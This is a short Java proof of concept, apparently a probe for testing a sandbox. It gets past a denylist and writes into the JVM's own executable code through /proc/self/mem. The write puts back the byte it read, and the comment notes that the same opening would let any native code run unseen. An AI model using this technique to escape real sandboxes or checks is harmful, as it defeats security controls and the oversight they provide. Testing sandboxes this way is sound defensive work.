// MemPoke.java - passes the denylist, then writes into its own process's
// executable code through /proc/self/mem (the kernel lets a process
// write its own memory, read-only pages included): with that, any
// native code runs, and no reference check can see it. The write puts
// back the byte it read (a proof, not a crash); MEM-WRITTEN says it
// worked, the open's or write's error says it did not.
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;

public class MemPoke {
	public static void main(String[] args) throws Exception {
		long at = -1;
		for (String l : Files.readAllLines(Path.of("/proc/self/maps"))) {
			String[] f = l.split("\\s+");
			if (f.length >= 6 && f[1].equals("r-xp") && f[5].contains("libjvm")) {
				at = Long.parseUnsignedLong(f[0].split("-")[0], 16);
				break;
			}
		}
		if (at < 0) {
			System.out.println("no code mapping found");
			return;
		}
		try (RandomAccessFile m = new RandomAccessFile("/proc/self/mem", "rw")) {
			m.seek(at);
			int b = m.read();
			m.seek(at);
			m.write(b);
			System.out.println("MEM-WRITTEN");
		} catch (Exception e) {
			System.out.println("refused: " + e.getMessage());
		}
	}
}
